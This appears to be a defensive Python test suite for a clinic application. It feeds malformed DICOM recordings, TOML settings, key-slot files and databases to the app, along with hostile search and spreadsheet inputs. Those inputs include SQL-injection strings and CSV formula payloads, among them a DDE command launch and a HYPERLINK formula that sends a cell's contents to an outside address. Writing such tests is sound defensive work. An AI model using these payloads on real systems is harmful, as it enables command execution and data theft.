"""What lies in files and fields: recordings, settings, key slots, a damaged store, words typed, tables made."""

from __future__ import annotations

import csv
import io
import json
import unicodedata
from collections.abc import Iterator
from contextlib import closing, contextmanager
from functools import partial
from pathlib import Path
from random import Random
from typing import Any, Final

import numpy as np
import pydicom
from pydicom.dataelem import RawDataElement
from pydicom.tag import Tag

from clinic_app.access import Trail
from clinic_app.foundation.clock import SystemClock
from clinic_app.foundation.folding import name_keys
from clinic_app.foundation.ids import new_id
from clinic_app.foundation.spreadsheet import csv_lines
from clinic_app.keys.key_storage import FileKeyStorage
from clinic_app.keys.slots import KeySlots
from clinic_app.keys.wrapping import SlotCost
from clinic_app.records import Attachment, DocumentReference, DocumentReferenceContent, Patient, Reference
from clinic_app.records.datatypes import SHA256_URN
from clinic_app.registration import Registration
from clinic_app.registration.keyboard import other_layouts
from clinic_app.settings import load_settings
from clinic_app.storage import Store
from clinic_app.storage.indexes import search_keys
from clinic_app.waveforms import RecordedChannel, Recording, Recordings, to_dicom
from clinic_app.workstation import provision
from tests.drills.hostile.cases import Attempt, Case, Inputs, Outcome, Stage, demand, must_refuse
from tests.drills.hostile.pictures import cut_at_elements, nested
from tests.helpers.clocks import NOON, FixedClock
from tests.helpers.nodes import DISTRICT, node
from tests.helpers.stores import KEY, patient

_ENTRIES: Final = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1",
    "＋1",
    "－1",
    "＠x",
    " =1",
    "\u200b=1",
    "\ufeff=1",
    "−1",
)


# --- a recording another hospital sent ---


@contextmanager
def _recording(folder: Path) -> Iterator[Attempt]:
    with node(folder / "here", DISTRICT) as here:
        here.store.records.commit([Patient(id="p1")])
        recordings, doctor = Recordings(here.store, Trail(here.store, here.clock), here.clock), here.session("doctor")

        def load(data: bytes) -> Recording:
            url = f"{SHA256_URN}{here.store.blobs.put(data)}"
            content = (DocumentReferenceContent(attachment=Attachment(url=url, content_type="application/dicom")),)
            about = Reference(reference="Patient/p1")
            document = DocumentReference(id=new_id(), status="current", subject=about, content=content)
            here.store.records.commit([document])
            return recordings.load(doctor, document)

        def attempt(data: bytes) -> Any:
            must_refuse(lambda: load(data), lambda: 0)

        demand(load(_good_recording()).channels, "a good recording is not read")
        yield attempt


def _good_recording() -> bytes:
    wave = (np.arange(500, dtype=np.float32) % 300) - 150
    (good,) = to_dicom(Recording((RecordedChannel("MDC_ECG_LEAD_II", "II", "uV", 500.0, wave),), NOON, "M"))
    return good


def _recordings(_random: Random) -> Inputs:
    good = _good_recording()

    def group(keyword: str, vr: str, value: bytes) -> bytes:
        dataset = pydicom.dcmread(io.BytesIO(good))
        element = RawDataElement(Tag(keyword), vr, len(value), value, 0, False, True)
        place = dataset.WaveformSequence[0]
        (place if keyword in place else place.ChannelDefinitionSequence[0])[keyword] = element
        buffer = io.BytesIO()
        dataset.save_as(buffer)
        return buffer.getvalue()

    for keyword, vr, value in (
        ("NumberOfWaveformChannels", "US", b"\xff\xff"),
        ("NumberOfWaveformSamples", "UL", b"\xff\xff\xff\xff"),
        ("NumberOfWaveformSamples", "IS", b"1E999999999 "),
        ("NumberOfWaveformSamples", "IS", b"-5"),
        ("SamplingFrequency", "DS", b"1E-999999999"),
        ("SamplingFrequency", "DS", b"1E999999999 "),
        ("SamplingFrequency", "DS", b"0 "),
        ("SamplingFrequency", "DS", b"NaN "),
        ("SamplingFrequency", "LO", b"<script> "),
        ("WaveformBitsAllocated", "US", b"\x40\x00"),
        ("WaveformSampleInterpretation", "CS", b"XX"),
        ("ChannelSensitivity", "DS", b"1E300 "),
        ("ChannelSensitivity", "DS", b"NaN "),
        ("ChannelBaseline", "DS", b"1E999 "),
        ("WaveformData", "OW", b""),
    ):
        yield f"{keyword} {value!r}", group(keyword, vr, value)
    for place in cut_at_elements(good):
        if place <= good.index(b"\x00\x54\x00\x01SQ"):
            yield f"cut at {place}", good[:place]
    yield "cut in the samples", good[:-300]
    yield "nested", good[:200] + nested(3000, is_undefined=True)[200:]
    empty = b"\xfe\xff\x00\xe0\x00\x00\x00\x00"
    yield "a million items", good + b"\x08\x00\x15\x11SQ\x00\x00\xff\xff\xff\xff" + empty * 1_000_000
    yield "two million elements", good[:150] + b"\x10\x00\x10\x00PN\x00\x00" * 2_000_000
    yield "a picture", Path(str(pydicom.data.get_testdata_file("CT_small.dcm", download=False))).read_bytes()
    yield "noise", bytes(128) + b"DICM" + Random(4).randbytes(9000)


# --- settings and the file that sets a workstation up ---


@contextmanager
def _settings(folder: Path) -> Iterator[Attempt]:
    def attempt(body: bytes) -> Any:
        (folder / "settings.toml").write_bytes(body)
        must_refuse(lambda: load_settings(folder), lambda: (folder / "settings.toml").read_bytes() == body)

    (folder / "settings.toml").write_bytes(b"monitor_port = 6661")
    demand(load_settings(folder).values == {"monitor_port": 6661}, "good settings are not read")
    yield attempt


@contextmanager
def _provisioning(folder: Path) -> Iterator[Attempt]:
    def attempt(body: bytes) -> Any:
        file, data = folder / "setup.toml", folder / "data"
        file.write_bytes(body)
        must_refuse(partial(provision, data, file), (data / "clinic.db").exists)

    yield attempt


def _tomls(_random: Random) -> Inputs:
    yield "no text", b"\xff\xfe\x00"
    yield "100 000 brackets", b"a = " + b"[" * 100_000
    yield "10 000 tables in tables", b"[" + b".".join([b"a"] * 10_000) + b"]"
    yield "2 MB", b"#" * (2 << 20)
    yield "a key twice", b"monitor_port = 1\nmonitor_port = 2"
    yield "a number of a million digits", b"monitor_port = " + b"9" * 900_000
    yield "a number beyond any", b"monitor_port = 1e400"
    yield "no number", b"monitor_port = nan"
    yield "a port too high", b"monitor_port = 65536"
    yield "a word for a number", b'monitor_port = "80"'
    yield "yes for a number", b"monitor_port = true"
    yield "a table for a word", b"[hub_url]\nx = 1"
    yield "nobody's setting", b'__class__ = "x"'
    yield "half a letter", b'hub_url = "\\ud800"'
    yield "a zero", b'hub_url = "\x00"'
    yield "a date", b"hub_url = 1979-05-27"
    yield "threads without end", b"worker_threads = 100000"


def _setups(random: Random) -> Inputs:
    yield from _tomls(random)
    yield "people a word", b'people = "abc"\n[facility]\nfacility_name = "x"'
    yield "people of people", b'[facility]\nfacility_name = "x"\nworkstation_name = "y"\n[[people]]\nlogin = ["x"]'
    yield (
        "a role nobody has",
        b'[facility]\nfacility_name = "x"\n[[people]]\nlogin="x"\npassword="12345678"\nname="n"\nrole="god"',
    )
    yield "an escrow that is none", b'escrow_recipient = "age1xxx"\n[facility]\nfacility_name = "x"'


# --- key slots ---

_QUICK: Final = SlotCost(8, 1)


@contextmanager
def _slots(folder: Path) -> Iterator[Stage]:
    good = folder / "good"
    good.mkdir()
    slots = KeySlots(good, _QUICK)
    made = slots.create(FileKeyStorage(good))
    slots.keep_password("doctor", "correct horse", made)
    demand(slots.open_with_password("doctor", "correct horse") == made, "the good slots do not open")
    told = json.loads((good / "keys.json").read_bytes())
    turn = iter(range(10_000))

    def prepare(change: Any) -> Path:
        place = folder / f"changed-{next(turn)}"
        place.mkdir()
        body = change if isinstance(change, bytes) else json.dumps(change(json.loads(json.dumps(told)))).encode()
        for name in ("keys.json", "keys.copy.json"):
            (place / name).write_bytes(body)
        return place

    def attempt(place: Path) -> Any:
        before = {path.name: path.read_bytes() for path in place.iterdir()}
        must_refuse(
            partial(KeySlots(place, _QUICK).open_with_password, "doctor", "correct horse"),
            lambda: {path.name: path.read_bytes() for path in place.iterdir()} == before,
        )

    yield prepare, attempt


def _slot_files(_random: Random) -> Inputs:
    def user(**values: Any) -> Any:
        def change(file: dict[str, Any]) -> dict[str, Any]:
            for slot in file["slots"]:
                if slot["kind"] == "user":
                    slot.update(values)
            return file

        return change

    for memory, passes in ((2**31, 1), (2**22, 1), (8, 2**31), (262_144, 10), (0, 1), (-5, 1), (7, 0), (2**70, 1)):
        yield f"Argon2id with {memory} KiB, {passes} passes", user(memory_kib=memory, passes=passes)
    yield "a salt of 100 KB", user(salt="QUFB" * 30_000)
    yield "no salt", user(salt="")
    yield "a nonce of 1 MB", user(nonce="QUFB" * 200_000)
    yield "nothing sealed", user(sealed="")
    yield "1000 slots of the same person", lambda file: {**file, "slots": _spoilt(file["slots"]) * 1000}
    yield "2000 slots", lambda file: {**file, "slots": file["slots"] * 1000}
    yield "of another site", lambda file: {**file, "site": "another"}
    yield "no slots", lambda file: {**file, "slots": []}
    yield "a key nobody has", lambda file: {**file, "key": "00" * 16}
    for said in (
        b"",
        b"null",
        b"[]",
        b"{}",
        b"\xff",
        b"[" * 200_000,
        b" " * (2 << 20),
        b'{"site":1,"slots":[]}',
        b"9" * 5000,
    ):
        yield f"that says {said[:10]!r}", said


def _spoilt(slots: list[dict[str, Any]]) -> list[dict[str, Any]]:
    return [{**slot, "sealed": "QUFB"} for slot in slots if slot["kind"] == "user"]


# --- what lies on a disk that somebody had ---


@contextmanager
def _store(folder: Path) -> Iterator[Stage]:
    good = folder / "good"
    with_data = Store.open(good, KEY, FixedClock())
    with_data.records.commit([Patient(id="p1")])
    with_data.close()
    whole = (good / "clinic.db").read_bytes()
    turn = iter(range(10_000))

    def prepare(change: Any) -> Path:
        place = folder / f"changed-{next(turn)}"
        place.mkdir()
        (place / "clinic.db").write_bytes(change(whole))
        return place

    def attempt(place: Path) -> Any:
        before = (place / "clinic.db").read_bytes()
        must_refuse(lambda: _look(place), lambda: (place / "clinic.db").read_bytes() == before)

    _look(prepare(bytes))
    yield prepare, attempt


def _look(folder: Path) -> None:
    with closing(Store.open(folder, KEY, FixedClock())) as store:
        store.records.get(Patient, "p1")


def _databases(_random: Random) -> Inputs:
    yield "noise", lambda whole: Random(6).randbytes(len(whole))
    yield "a database without a key", lambda whole: b"SQLite format 3\0" + whole[16:]
    yield "another salt", lambda whole: bytes(16) + whole[16:]
    yield "the first page changed", lambda whole: whole[:900] + b"\xff" * 64 + whole[964:]
    yield "the first page alone", lambda whole: whole[:1000]
    yield "text", lambda _whole: b"this is no database\n" * 1000


# --- words typed ---


@contextmanager
def _search(folder: Path) -> Iterator[Attempt]:
    with node(folder / "here", DISTRICT) as here:
        everybody = [
            patient("Қасымов", "Нұрлан", iin="850101300124"),
            patient("Иванов", "Иван"),
            patient("Not", "Near"),
        ]
        here.store.records.commit(everybody)
        registration = Registration(here.store, Trail(here.store, here.clock), SystemClock(), str)
        registrar = here.session("registrar")

        def attempt(words: str) -> Outcome:
            found = {each.id for each in registration.search(registrar, words)}
            expected = [_bearers(everybody, each) for each in (words, *other_layouts(words))]
            demand(not words.strip() or found in (*expected, set()), f"found: {found}")
            demand(not words.strip() or found <= set().union(*expected), f"found: {found}")
            return "disarmed"

        yield attempt


def _bearers(everybody: list[Patient], words: str) -> set[str]:
    """Return who bears every word, at least its beginning: the same question without a query language."""
    keys = name_keys(words)[:12]
    if not keys:
        return set()
    return {
        each.id for each in everybody if all(any(k.startswith(key) for k in search_keys(each).split()) for key in keys)
    }


def _words(random: Random) -> Inputs:
    for words in (
        "иван*",
        '"',
        '""',
        '"иван',
        "иван OR касымов",
        "иван AND",
        "NOT иван",
        "NEAR(иван касымов)",
        "NEAR/2",
        "keys:иван",
        "{keys}:иван",
        "^иван",
        "иван + касымов",
        "- иван",
        "(иван",
        "иван)",
        "a*b*",
        "patient_search:иван",
        "rowid:1",
        "\x00иван",
        "иван\x00",
        "' OR 1=1 --",
        "'; DROP TABLE record; --",
        "%",
        "_",
        "*",
        "иван AND rank MATCH 'x'",
        "\ud800",
        "\u202e",
        "ı",
        "İ",
        "ﬃ" * 50,
        "a" * 100_000,
        " ".join(["иван"] * 5000),
        "\u0301" * 100_000,
        "(" * 10_000,
        '"' * 10_001,
        "-" * 10_000,
        "🤷" * 3000,
    ):
        yield repr(words[:30]), words
    signs = "\"'*():^-+{}|&\\ aNEAROTи0\x00%_"
    for turn in range(200):
        yield f"signs {turn}", "".join(random.choice(signs) for _ in range(random.randrange(1, 40)))


# --- tables for a spreadsheet program ---


@contextmanager
def _sheet(_folder: Path) -> Iterator[Attempt]:
    def attempt(words: str) -> Outcome:
        body = b"".join(csv_lines([("name", words), (words, "x")])).decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(body, newline=""), delimiter=";"))
        demand(len(rows) == 2 and all(len(row) == 2 for row in rows), f"the table has another shape: {rows}")
        for cell in (rows[0][1], rows[1][0]):
            visible = "".join(c for c in unicodedata.normalize("NFKC", cell) if unicodedata.category(c)[0] not in "CZ")
            demand(visible[:1] not in tuple("=+-@|%"), f"a formula: {cell!r}")
            demand(cell[:1] not in tuple("\t\r\n"), f"a formula: {cell!r}")
        return "disarmed"

    yield attempt


def _cells(_random: Random) -> Inputs:
    for words in (
        *_ENTRIES,
        '=cmd|"/C calc"!A0',
        '=HYPERLINK("http://10.0.0.1/?x="&A1)',
        "-2+3+cmd|' /C calc'!A0",
        '";"=1',
        '"\n=1',
        "a;=1",
    ):
        yield repr(words), words


def recording_cases(_is_short: bool) -> Iterator[Case]:
    """Yield every case of a recording that another hospital sent."""
    yield Case("recording", "from elsewhere", _recordings, _recording)


def setting_cases(_is_short: bool) -> Iterator[Case]:
    """Yield every case of settings."""
    yield Case("settings", "a workstation's", _tomls, _settings)
    yield Case("settings", "to set up", _setups, _provisioning)


def slot_cases(_is_short: bool) -> Iterator[Case]:
    """Yield every case of key slots and of a database somebody had in his hands."""
    yield Case("slots", "changed", _slot_files, _slots)
    yield Case("store", "changed", _databases, _store)


def word_cases(_is_short: bool) -> Iterator[Case]:
    """Yield every case of words that are typed or written out."""
    why = "words are words: nobody is found who does not bear each of them, and none of them is an operator"
    yield Case("search", "typed", _words, _search, why)
    text = "the words stay readable behind an apostrophe and are no formula for any spreadsheet program"
    yield Case("spreadsheet", "cell", _cells, _sheet, text)
